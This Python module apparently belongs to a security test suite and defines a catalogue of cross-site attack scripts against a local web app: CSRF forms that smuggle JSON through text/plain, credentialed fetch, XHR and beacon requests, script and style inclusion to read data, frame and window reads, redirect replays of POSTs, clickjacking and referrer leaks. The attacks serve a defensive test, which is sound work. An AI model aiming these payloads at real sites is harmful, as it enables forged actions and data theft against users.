"""Attacks on the desk from a page of another site: forms, scripts, includes, frames, windows, redirects, opaque origins."""

from collections.abc import Mapping

from benchmarks.proof.desk_attacker import Attack

_FORMS: Mapping[str, str] = {
    "form urlencoded": "form({action: DESK + '/do', method: 'post', target: 'w'}, {deed: DEED}).submit();",
    "form multipart": "form({action: DESK + '/do', method: 'post', enctype: 'multipart/form-data', target: 'w'}, {deed: DEED}).submit();",
    "form text/plain holding JSON": "const [a, b] = split(); form({action: DESK + '/do', method: 'post', enctype: 'text/plain', target: 'w'}, {[a]: b}).submit();",
    "form text/plain into a frame": "const frame = element('iframe', {name: 'f'}); const [a, b] = split(); form({action: DESK + '/do', method: 'post', enctype: 'text/plain', target: 'f'}, {[a]: b}).submit(); await loaded(frame); await tell(inside(frame));",
    "form with an invented type": "const made = form({action: DESK + '/do', method: 'post', target: 'w'}, {deed: DEED}); made.setAttribute('enctype', 'application/json'); made.submit();",
    "form with the type at its button": "const [a, b] = split(); const made = form({action: HOME, target: 'w'}, {[a]: b}); element('button', {formAction: DESK + '/do', formMethod: 'post', formEnctype: 'text/plain'}, made).click();",
    "form with a file said to be JSON": "const made = form({action: DESK + '/do', method: 'post', enctype: 'multipart/form-data', target: 'w'}, {}); const files = new DataTransfer(); files.items.add(new File([DEED], 'deed.json', {type: 'application/json'})); element('input', {type: 'file', name: 'deed', files: files.files}, made); made.submit();",
    "form by GET": "form({action: DESK + '/do', method: 'get', target: 'w'}, {deed: DEED, _method: 'POST'}).submit();",
    "form with the method overridden": "const [a, b] = split(); form({action: DESK + '/do?_method=POST&X-HTTP-Method-Override=POST', method: 'post', enctype: 'text/plain', target: 'w'}, {[a]: b}).submit();",
    "form as dialog": "const [a, b] = split(); const dialog = element('dialog', {open: true}); element('button', {formAction: DESK + '/do', formMethod: 'post', formEnctype: 'text/plain', name: a, value: b}, form({method: 'dialog', target: 'w'}, {})).click();",
    "form of a preview": "const [a, b] = split(); const frame = element('iframe', {name: 'f'}); form({action: DESK + '/preview', method: 'post', enctype: 'text/plain', target: 'f'}, {[a]: b}).submit(); await loaded(frame); await tell(inside(frame));",
}

_FETCHES: Mapping[str, str] = {
    "fetch no-cors text": "await attempt(() => fetch(DESK + '/do', {method: 'POST', mode: 'no-cors', credentials: 'include', body: DEED}).then((a) => a.text()));",
    "fetch no-cors JSON blob": "await attempt(() => fetch(DESK + '/do', {method: 'POST', mode: 'no-cors', credentials: 'include', body: new Blob([DEED], {type: 'application/json'})}).then((a) => a.text()));",
    "fetch cors simple": "for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'text/plain;application/json']) await attempt(() => fetch(DESK + '/do', {method: 'POST', credentials: 'include', headers: {'Content-Type': type}, body: DEED}).then((a) => a.text()));",
    "fetch cors JSON": "await attempt(() => fetch(DESK + '/do', {method: 'POST', credentials: 'include', headers: {'Content-Type': 'application/json'}, body: DEED}).then((a) => a.text()));",
    "fetch cors with the stamp guessed": "await attempt(() => fetch(DESK + '/do', {method: 'POST', credentials: 'include', headers: {'Content-Type': 'application/json', 'X-Roundup-Stamp': STAMP}, body: DEED}).then((a) => a.text()));",
    "fetch cors with headers that browsers keep": "await attempt(() => fetch(DESK + '/do', {method: 'POST', mode: 'cors', credentials: 'include', headers: {'Origin': DESK, 'Host': '127.0.0.1:' + PORT, 'Sec-Fetch-Site': 'same-origin', 'Cookie': 'roundup-' + PORT + '=x', 'Referer': DESK + '/'}, body: DEED}).then((a) => a.text()));",
    "fetch no-cors of every page": "await each((url) => fetch(url, {mode: 'no-cors', credentials: 'include'}).then(some));",
    "fetch cors of every page": "await each((url) => fetch(url, {credentials: 'include'}).then(some));",
    "fetch same-origin of every page": "await each((url) => fetch(url, {mode: 'same-origin', credentials: 'include'}).then(some));",
    "fetch from every cache": "for (const cache of ['force-cache', 'only-if-cached', 'reload']) await each((url) => fetch(url, {mode: 'no-cors', credentials: 'include', cache}).then(some));",
    "fetch with PUT, DELETE, PATCH": "for (const method of ['PUT', 'DELETE', 'PATCH', 'OPTIONS']) await attempt(() => fetch(DESK + '/do', {method, credentials: 'include', body: DEED}).then((a) => a.text()));",
    "fetch with TRACE, CONNECT and an invented method": "for (const method of ['TRACE', 'CONNECT', 'TRACK', 'DEED']) await attempt(() => fetch(DESK + '/do', {method, credentials: 'include'}).then((a) => a.text()));",
    "fetch with HEAD": "await each((url) => fetch(url, {method: 'HEAD', mode: 'no-cors', credentials: 'include'}).then((a) => JSON.stringify([...a.headers]) + a.status));",
    "fetch with the method overridden by header": "for (const name of ['X-HTTP-Method-Override', 'X-HTTP-Method', 'X-Method-Override']) await attempt(() => fetch(DESK + '/do', {credentials: 'include', headers: {[name]: 'POST'}}).then((a) => a.text()));",
    "fetch that says it is for loopback": "for (const targetAddressSpace of ['loopback', 'local']) for (const mode of ['cors', 'no-cors']) await attempt(() => fetch(DESK + '/do', {method: 'POST', mode, credentials: 'include', targetAddressSpace, body: DEED}).then((a) => a.text()));",
    "fetch with a streamed body": "await attempt(() => fetch(DESK + '/do', {method: 'POST', duplex: 'half', credentials: 'include', body: new Blob([DEED]).stream()}).then((a) => a.text()));",
    "fetch kept alive as the page goes": "addEventListener('pagehide', () => fetch(DESK + '/do', {method: 'POST', mode: 'no-cors', credentials: 'include', keepalive: true, body: DEED})); await say('/done', ''); location = 'about:blank'; await pause(300);",
    "XHR with credentials": "for (const [method, path] of [['POST', '/do'], ['GET', '/'], ['GET', '/sheet']]) await attempt(() => new Promise((go) => { const ask = new XMLHttpRequest(); ask.open(method, DESK + path); ask.withCredentials = true; ask.onloadend = () => go(ask.status + ask.responseText); ask.send(method === 'POST' ? DEED : null); }));",
    "XHR that watches its upload": "await attempt(() => new Promise((go) => { const ask = new XMLHttpRequest(); ask.open('POST', DESK + '/do'); ask.withCredentials = true; ask.upload.onprogress = () => {}; ask.onloadend = () => go(ask.status + ask.responseText); ask.send(DEED); }));",
    "beacon of text": "navigator.sendBeacon(DESK + '/do', DEED); await pause(300);",
    "beacon of JSON": "navigator.sendBeacon(DESK + '/do', new Blob([DEED], {type: 'application/json'})); await pause(300);",
    "beacon later": "if (window.fetchLater) fetchLater(DESK + '/do', {method: 'POST', mode: 'no-cors', credentials: 'include', body: DEED, activateAfter: 0}); await pause(300);",
    "many keys guessed": "await Promise.all(Array.from({length: 60}, (_, n) => attempt(() => fetch(DESK + '/?key=' + n, {mode: 'no-cors', credentials: 'include'}).then((a) => a.text()))));",
}

_INCLUDES: Mapping[str, str] = {
    "images": "await each(async (url) => { const made = element('img', {src: url}); return await loaded(made) + made.naturalWidth; });",
    "images for a canvas": "await each(async (url) => { const made = element('img', {crossOrigin: 'use-credentials', src: url}); await loaded(made); const sheet = document.createElement('canvas').getContext('2d'); sheet.drawImage(made, 0, 0); return [...sheet.getImageData(0, 0, 9, 9).data].join(); });",
    "scripts": "await each(async (url) => { await loaded(element('script', {src: url})); return typeof words === 'undefined' ? 'none' : words; });",
    "scripts that read what JSON makes": "Object.defineProperty(Object.prototype, 'blocks', {configurable: true, set(value) { tell(value); }}); window.Array = function () { tell([...arguments]); }; await each(async (url) => { await loaded(element('script', {src: url, charset: 'utf-16'})); });",
    "module scripts": "await each(async (url) => { await loaded(element('script', {type: 'module', src: url, crossOrigin: 'use-credentials'})); const module = await import(url); return JSON.stringify(module) + (window.words || ''); });",
    "JSON and style modules": "await each((url) => import(url, {with: {type: 'json'}}).then((a) => JSON.stringify(a.default))); await each((url) => import(url, {with: {type: 'css'}}).then((a) => [...a.default.cssRules].map((rule) => rule.cssText).join()));",
    "style sheets": "await each(async (url) => { const made = element('link', {rel: 'stylesheet', href: url}); await loaded(made); return made.sheet ? [...made.sheet.cssRules].map((rule) => rule.cssText).join() : 'none'; });",
    "style imports, pictures, fonts": "element('style', {textContent: ROUTES.map((route) => `@import '${DESK}${route}';`).join('') + ROUTES.map((route, n) => `@font-face { font-family: f${n}; src: url('${DESK}${route}'); } i { font-family: f${n}; background: url('${DESK}${route}'); mask: url('${DESK}${route}#m'); cursor: url('${DESK}${route}'), auto; }`).join('')}); element('i', {textContent: 'x'}); await pause(400); await tell([...document.styleSheets].map((sheet) => { try { return [...sheet.cssRules].map((rule) => rule.styleSheet ? [...rule.styleSheet.cssRules].map((inner) => inner.cssText).join() : rule.cssText).join(); } catch (error) { return String(error); } }));",
    "objects": "await each(async (url) => { const made = element('object', {data: url}); await loaded(made); return inside(made); });",
    "embeds": "await each(async (url) => { const made = element('embed', {src: url}); await loaded(made); return made.getSVGDocument() ? made.getSVGDocument().documentElement.outerHTML : 'none'; });",
    "video, sound, captions": "await each(async (url) => { const video = element('video', {crossOrigin: 'use-credentials', src: url}); const track = element('track', {src: url, default: true}, video); element('audio', {src: url, autoplay: true}); track.track.mode = 'showing'; await loaded(track); return [...(track.track.cues || [])].map((cue) => cue.text).join() + (video.error || {}).message; });",
    "drawings that use a part": "await each(async (url) => { element('div', {innerHTML: `<svg><use href='${url}#a'/><image href='${url}'/><script href='${url}'></script></svg><input type=image src='${url}'><picture><source srcset='${url}'><img></picture>`}); await pause(300); });",
    "frames": "await each(async (url) => { const made = element('iframe', {src: url}); await loaded(made); return inside(made) + made.contentWindow.length; });",
    "frames with credentials of their own": "await each(async (url) => { const made = element('iframe', {credentialless: true, src: url}); await loaded(made); return inside(made); });",
    "sandboxed frames": "await each(async (url) => { const made = document.createElement('iframe'); made.sandbox = 'allow-scripts allow-same-origin allow-forms allow-popups'; made.src = url; document.body.append(made); await loaded(made); return inside(made) + made.contentWindow.length; });",
    "frames with a policy forced on them": "await each(async (url) => { const made = document.createElement('iframe'); made.setAttribute('csp', \"script-src 'none'; report-uri \" + HOME + '/report?attack=csp'); made.src = url; document.body.append(made); await loaded(made); return inside(made); });",
    "links that look ahead": "await each(async (url) => { for (const rel of ['prefetch', 'preload', 'modulepreload', 'prerender', 'preconnect', 'icon', 'manifest', 'next']) for (const as of ['fetch', 'script', 'document']) element('link', {rel, as, href: url, crossOrigin: 'use-credentials'}, document.head); await pause(300); return performance.getEntriesByName(url); });",
    "rules that look ahead": "element('script', {type: 'speculationrules', textContent: JSON.stringify({prefetch: [{source: 'list', urls: ROUTES.map((route) => DESK + route)}], prerender: [{source: 'list', urls: [DESK + '/']}]})}); await pause(400);",
    "sizes and times": "await each((url) => fetch(url, {mode: 'no-cors', credentials: 'include'})); await tell(performance.getEntriesByType('resource').map((entry) => [entry.name, entry.encodedBodySize, entry.responseStatus, entry.serverTiming]));",
    "events": "await each((url) => new Promise((go) => { const source = new EventSource(url, {withCredentials: true}); source.onmessage = (event) => go(event.data); source.onerror = () => { source.close(); go('error'); }; setTimeout(() => { source.close(); go('late'); }, 900); }));",
    "web sockets": "for (const path of ['/', '/events', '/do']) await attempt(() => new Promise((go) => { const made = new WebSocket('ws://127.0.0.1:' + PORT + path); made.onopen = () => { made.send(DEED); go('open'); }; made.onmessage = (event) => tell(event.data); made.onerror = () => go('error'); }));",
    "workers": "await each((url) => new Promise((go, no) => { const made = new Worker(url); made.onerror = () => go('error'); setTimeout(go, 300, 'none'); })); await attempt(() => new Promise((go) => { const text = `try { importScripts('${DESK}/static/desk.js'); postMessage(String(self.words)); } catch (error) { postMessage(String(error)); } fetch('${DESK}/do', {method: 'POST', mode: 'no-cors', credentials: 'include', body: ${JSON.stringify(DEED)}}).then(() => postMessage('sent'), () => postMessage('not sent'));`; const made = new Worker(URL.createObjectURL(new Blob([text]))); made.onmessage = (event) => { tell(event.data); if (/sent/.test(event.data)) go(); }; setTimeout(go, 900); }));",
    "a deed as a picture's address": "await loaded(element('img', {src: DESK + '/do?deed=' + encodeURIComponent(DEED)}));",
    "pings": "element('a', {href: '#x', ping: DESK + '/do?deed=' + encodeURIComponent(DEED)}).click(); await pause(300);",
}

_WINDOWS: Mapping[str, str] = {
    "a window, read": "await each(async (url) => { const made = window.open(url); await pause(500); return made.document.documentElement.outerHTML; });",
    "a window, asked for messages": "const made = window.open(DESK + '/'); await pause(500); for (const text of ['?', DEED, {type: 'do', deed: DEED}]) made.postMessage(text, '*'); await pause(200); await tell([made.closed, made.length]);",
    "the desk's own tab by its name": "for (const name of ['desk', 'roundup', 'review', '_top', '']) await attempt(async () => { const made = window.open('', name); return made && made.document.documentElement.outerHTML; });",
    "the top navigated by GET": "await say('/done', ''); location = DESK + '/do?deed=' + encodeURIComponent(DEED); await pause(400);",
    "the top navigated by POST": "await say('/done', ''); const [a, b] = split(); form({action: DESK + '/do', method: 'post', enctype: 'text/plain'}, {[a]: b}).submit(); await pause(400);",
    "a key guessed in a window": "window.open(DESK + '/?key=guessed'); window.open(DESK + '/?key='); await pause(400);",
    "a script's address": "const made = window.open(DESK + '/'); await pause(400); await attempt(() => { made.location = \"javascript:fetch('/do', {method: 'POST', body: '1'})\"; }); await pause(200);",
}
_PAGE = "<script>const DEED = {deed}; const tell = (what) => parent.postMessage(String(what), '*'); (async () => { try { await fetch('{desk}/do', {method: 'POST', mode: 'no-cors', credentials: 'include', body: DEED}); tell('sent'); tell(await (await fetch('{desk}/', {credentials: 'include'})).text()); } catch (error) { tell(error); } })();</script><form method=post enctype=text/plain action='{desk}/do' target=_blank><input type=hidden></form><script>const at = DEED.lastIndexOf('}'); document.forms[0][0].name = DEED.slice(0, at) + ',\"x\":\"'; document.forms[0][0].value = '\"}'; document.forms[0].submit();</script>"
_INNER = f"const inner = {_PAGE!r}.replaceAll('{{deed}}', () => JSON.stringify(DEED)).replaceAll('{{desk}}', DESK); "
_OPAQUE: Mapping[str, str] = {
    "a frame of data": _INNER + "element('iframe', {src: 'data:text/html,' + encodeURIComponent(inner)}); await pause(800);",
    "a frame of a blob": _INNER
    + "element('iframe', {src: URL.createObjectURL(new Blob([inner], {type: 'text/html'}))}); await pause(800);",
    "a frame of its own text": _INNER + "element('iframe', {srcdoc: inner}); await pause(800);",
    "a sandboxed frame": _INNER
    + "const made = document.createElement('iframe'); made.sandbox = 'allow-scripts allow-forms allow-popups'; made.srcdoc = inner; document.body.append(made); await pause(800);",
    "a sandboxed frame that says no referrer": _INNER
    + "const made = document.createElement('iframe'); made.sandbox = 'allow-scripts allow-forms allow-popups allow-popups-to-escape-sandbox'; made.referrerPolicy = 'no-referrer'; made.srcdoc = inner; document.body.append(made); await pause(800);",
}
_TURN = "const turn = (code, path) => HOME + '/redirect?code=' + code + '&to=' + encodeURIComponent(DESK + path); "
_REDIRECTS: Mapping[str, str] = {
    f"a redirect {code} that keeps the POST, {how}": _TURN + script.replace("CODE", str(code))
    for code in (307, 308)
    for how, script in {
        "fetched": "await attempt(() => fetch(turn(CODE, '/do'), {method: 'POST', mode: 'no-cors', credentials: 'include', body: DEED}).then((a) => a.text()));",
        "of a form": "const [a, b] = split(); form({action: turn(CODE, '/do'), method: 'post', enctype: 'text/plain', target: 'w'}, {[a]: b}).submit(); await pause(500);",
    }.items()
} | {
    "redirects to every page": _TURN
    + "for (const code of [301, 302, 303]) { await Promise.all(ROUTES.map((route) => attempt(() => fetch(turn(code, route), {mode: 'no-cors', credentials: 'include'}).then(some)))); window.open(turn(code, '/')); } await pause(300);",
    "a script behind a redirect": _TURN
    + "await loaded(element('script', {src: turn(302, '/static/desk.js')})); await tell(typeof words === 'undefined' ? 'none' : words);",
    "a manual redirect": _TURN
    + "await attempt(() => fetch(turn(302, '/'), {redirect: 'manual', mode: 'no-cors', credentials: 'include'}).then((a) => a.text()));",
}


def foreign() -> list[Attack]:
    """Return the attacks of a page of another site."""
    forms = [Attack(name=name, script=script + " await pause(400);") for name, script in _FORMS.items()]
    rest = {**_FETCHES, **_INCLUDES, **_WINDOWS, **_OPAQUE, **_REDIRECTS}
    made = forms + [Attack(name=name, script=script) for name, script in rest.items()]
    refresh = "<meta http-equiv='refresh' content='0; url={{DESK}}/do?deed={{DEED}}'>"
    covered = "<iframe src='{{DESK}}/' style='opacity:0.01;width:600px;height:400px'></iframe>"
    return [
        *made,
        Attack(name="meta refresh", head=refresh),
        Attack(name="the page under a lure (clickjacking)", markup=covered, script="await pause(600);"),
        Attack(
            name="the page sandboxed under a lure",
            markup=covered.replace("<iframe", "<iframe sandbox='allow-scripts allow-forms'"),
            script="await pause(600);",
        ),
        Attack(
            name="a base and old frames",
            head="<base href='{{DESK}}/'>",
            markup="<a href='/' id=a></a><frameset></frameset>",
            script="await attempt(() => fetch('/sheet', {credentials: 'include'}).then(some));",
        ),
        Attack(
            name="the key asked for by referrer",
            head="<meta name=referrer content=unsafe-url>",
            script="await tell([document.referrer, history.length]); await each((url) => fetch(url, {mode: 'no-cors', credentials: 'include', referrerPolicy: 'unsafe-url'}).then(some));",
        ),
    ]
